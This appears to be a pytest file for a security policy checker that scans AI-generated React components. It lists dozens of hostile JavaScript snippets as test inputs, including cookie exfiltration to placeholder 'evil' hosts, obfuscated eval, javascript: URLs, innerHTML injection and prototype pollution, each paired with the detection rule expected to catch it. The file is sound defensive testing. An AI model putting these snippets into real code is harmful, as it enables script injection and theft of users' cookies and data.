"""The code policy: attacks a steered model might write are found with the right rule and
place; every template's output, hostile inputs included, has no finding."""

from __future__ import annotations

import pytest

from core.spec import COMPONENT_TYPES
from tests.unit.workers.chain.quality.test_typecheck import varied_specs
from workers.chain.providers.template import TemplateProvider
from workers.chain.quality.policy import check_files, check_source
from workers.chain.types import ChainContext

ATTACKS = {
    "cookie exfiltration": ('fetch("https://x/?c=" + document.cookie);', {"network", "cookie"}),
    "eval of base64": ('eval(atob("ZmV0Y2goJy8vZXZpbCcp"));', {"eval", "decoder"}),
    "indirect eval": ('(0, eval)("alert(1)");', {"eval"}),
    "window.eval": ('window.eval("alert(1)");', {"eval", "global-object"}),
    "split property name": ('const c = document["coo" + "kie"];', {"cookie"}),
    "split global name": ('window["fe" + "tch"]("//evil");', {"network", "global-object"}),
    "template-literal name": ('globalThis[`ev${"al"}`]("1");', {"eval", "global-object"}),
    "const-folded name": ('const k = "coo"; const v = el[k + "kie"];', {"cookie"}),
    "joined name": ('const v = el[["inner", "HTML"].join("")];', {"html-injection"}),
    "escaped name": ('const v = el["\\x63ookie"];', {"cookie"}),
    "non-constant key on document": ("const v = document[key];", {"computed-access"}),
    "decoded key": ("const v = el[decodeURIComponent(k)];", {"decoder"}),
    "char codes": ("const n = String.fromCharCode(101, 118, 97, 108);", {"decoder"}),
    "new Function": ('new Function("return fetch")();', {"function-constructor"}),
    "constructor chain": ('({}).constructor.constructor("alert(1)")();', {"function-constructor"}),
    "destructured constructor": ("const { constructor: C } = [];", {"function-constructor"}),
    "string timer": ('setTimeout("alert(1)", 10);', {"timer-string"}),
    "value timer": ("setInterval(code, 10);", {"timer-string"}),
    "dynamic import": ('import("https://evil/x.js");', {"dynamic-import"}),
    "remote import": ('import x from "https://evil/x.js";', {"import"}),
    "node import": ('import fs from "fs";', {"import"}),
    "re-export": ('export { x } from "lodash";', {"import"}),
    "require": ('const cp = require("child_process");', {"require"}),
    "import require": ('import cp = require("child_process");', {"require"}),
    "javascript href": ('const a = <a href="javascript:alert(1)">x</a>;', {"script-url"}),
    "concatenated href": ('const a = <a href={"java" + "script:alert(1)"}>x</a>;', {"script-url"}),
    "obfuscated scheme": ('const u = " JaVa\\tScRiPt:alert(1)";', {"script-url"}),
    "entity scheme": ('const a = <a href="&#106;avascript:alert(1)">x</a>;', {"script-url"}),
    "data html": ('const u = "data:text/html,<script>alert(1)</script>";', {"script-url"}),
    "dangerouslySetInnerHTML": (
        "const a = <div dangerouslySetInnerHTML={{ __html: h }} />;",
        {"html-injection"},
    ),
    "spread raw html": (
        "const a = <div {...{ dangerouslySetInnerHTML: h }} />;",
        {"html-injection"},
    ),
    "innerHTML": ("el.innerHTML = h;", {"html-injection"}),
    "assigned innerHTML": ("Object.assign(el, { innerHTML: h });", {"html-injection"}),
    "computed key": ('Object.assign(el, { ["inner" + "HTML"]: h });', {"html-injection"}),
    "inline handler": ('el.setAttribute("onclick", "alert(1)");', {"html-injection"}),
    "document.write": ('document.write("<b>");', {"html-injection"}),
    "sendBeacon": ('navigator.sendBeacon("/x", d);', {"navigator", "network"}),
    "localStorage": ('localStorage.setItem("a", "b");', {"storage"}),
    "location assignment": ('window.location = "https://evil";', {"navigation"}),
    "location replace": ('location.replace("https://evil");', {"navigation"}),
    "href of location": ('document.location.href = "https://evil";', {"navigation"}),
    "__proto__": ("el.__proto__.polluted = 1;", {"prototype"}),
    "prototype write": ("Array.prototype.map = f;", {"prototype"}),
    "defineProperty": ('Object.defineProperty(Object, "x", {});', {"prototype"}),
    "globalThis alias": ("const g = globalThis;", {"global-object"}),
    "document alias": ("const d = document;", {"document"}),
    "iframe srcDoc": ('const a = <iframe srcDoc="<b>x</b>" />;', {"jsx-element", "jsx-attribute"}),
    "script element": ("const a = <script>{code}</script>;", {"jsx-element"}),
    "createElement script": ('React.createElement("script", null, c);', {"jsx-element"}),
    "createElement by key": ('R["create" + "Element"]("iframe");', {"jsx-element"}),
    "formAction": ('const a = <button formAction="/x">x</button>;', {"jsx-attribute"}),
    "remote img": ('const a = <img src="https://evil/x.png" />;', {"remote-resource"}),
    "protocol-relative img": ('const a = <img src={"//evil/x.png"} />;', {"remote-resource"}),
    "remote srcSet": (
        'const a = <img srcSet="a.png 1x, https://evil/b.png 2x" />;',
        {"remote-resource"},
    ),
    "css url": ('const s = { backgroundImage: "url(//evil)" };', {"css-resource"}),
    "css escape": ('const s = { background: "u\\\\72l(//evil)" };', {"css-resource"}),
    "css import": ("const css = \"@import 'https://evil/x.css';\";", {"css-resource"}),
}


@pytest.mark.parametrize("source, rules", ATTACKS.values(), ids=list(ATTACKS))
def test_each_attack_is_found_with_its_rule(source: str, rules: set[str]) -> None:
    found = {f.rule for f in check_source(source, "component.tsx")}
    assert rules <= found, found


def test_a_finding_says_where() -> None:
    source = 'import React from "react";\n\nexport const x = 1;\n  fetch("//e");\n'
    [finding] = check_source(source, "component.tsx")
    assert (finding.rule, finding.file, finding.line, finding.column) == (
        "network",
        "component.tsx",
        4,
        3,
    )
    assert set(finding.as_dict()) == {"rule", "file", "line", "column", "detail"}


@pytest.mark.parametrize(
    "source",
    [
        '// fetch(document.cookie) in a comment\nconst s = "fetch(document.cookie)";',
        "const [open, setOpen] = React.useState(false);\nsetOpen(!open);",
        "function f(top: number): number { return top + 1; }",
        "setTimeout(() => setShown(true), 10);",
        'document.getElementById("tab-1")?.focus();',
        'const a = <a href="/docs#intro">docs</a>;',
        'const a = <img src="data:image/png;base64,AAAA" alt="" />;',
        "const next = Math.max(0, items.indexOf(value));",
    ],
)
def test_safe_code_passes(source: str) -> None:
    assert check_source(source, "component.tsx") == []


def test_a_local_name_does_not_hide_the_global_elsewhere() -> None:
    source = "function f(fetch: () => void): void { fetch(); }\nfetch('//evil');"
    findings = check_source(source, "component.tsx")
    assert [(f.rule, f.line) for f in findings] == [("network", 2)]


def test_every_template_output_has_no_finding() -> None:
    specs = varied_specs()
    assert {spec.component_type for spec in specs} == set(COMPONENT_TYPES)
    for spec in specs:
        ctx = ChainContext(spec=spec, tokens=spec.tokens)
        ctx.requirements = spec.requirements or TemplateProvider().propose_requirements(ctx)
        code = TemplateProvider().generate_code(ctx)
        files = {"component.tsx": code.component_tsx, "stories.tsx": code.stories_tsx}
        assert check_files(files) == [], spec.component_name
